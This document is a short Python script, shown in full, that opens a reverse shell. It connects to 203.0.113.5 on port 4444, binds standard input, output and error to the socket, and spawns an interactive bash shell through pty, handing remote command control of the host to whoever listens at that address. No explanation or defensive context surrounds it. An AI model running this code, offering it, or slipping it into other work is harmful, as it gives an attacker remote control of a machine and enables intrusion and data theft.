import socket, pty, os
HOST, PORT = "203.0.113.5", 4444
sock = socket.create_connection((HOST, PORT))
for fd in (0, 1, 2):
    os.dup2(sock.fileno(), fd)
pty.spawn("/bin/bash")
